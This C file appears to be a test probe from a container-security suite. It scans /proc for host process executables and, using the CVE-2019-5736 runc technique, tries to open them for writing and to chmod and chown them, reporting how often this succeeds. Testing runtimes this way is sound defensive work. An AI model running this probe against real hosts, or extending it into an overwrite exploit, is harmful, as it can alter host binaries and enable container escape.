// A01: for each process that appears, opens its executable and, if that is not this container's
// own, tries to open it for writing through the descriptor, as CVE-2019-5736 did. Ends when
// /tmp/stop exists, and says how often it looked and what it got.
#include <dirent.h>

#include "escape.h"

static long tries, foreign;

static void attack(const char *pid) {
  char path[64];
  struct stat theirs, root;
  snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  ++tries;
  if (fd < 0) return;
  stat("/", &root);
  if (fstat(fd, &theirs) == 0 && theirs.st_dev != root.st_dev) {
    ++foreign;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 1000; ++i) {
      int out = open(path, O_WRONLY | O_CLOEXEC);
      if (out >= 0) {
        printf("write OK\n");
        close(out);
      }
    }
    say(open(path, O_WRONLY | O_CLOEXEC), "last_write");
    say(chmod(path, 0777), "chmod");
    say(fchown(fd, 0, 0), "chown");
  }
  close(fd);
}

int main(void) {
  printf("ready OK\n");
  fflush(stdout);
  while (access("/tmp/stop", F_OK) < 0) {
    DIR *processes = opendir("/proc");
    for (struct dirent *e; processes && (e = readdir(processes));)
      if (e->d_name[0] > '0' && e->d_name[0] <= '9') attack(e->d_name);
    if (processes) closedir(processes);
  }
  printf("tries %ld\nforeign %ld\n", tries, foreign);
  return 0;
}
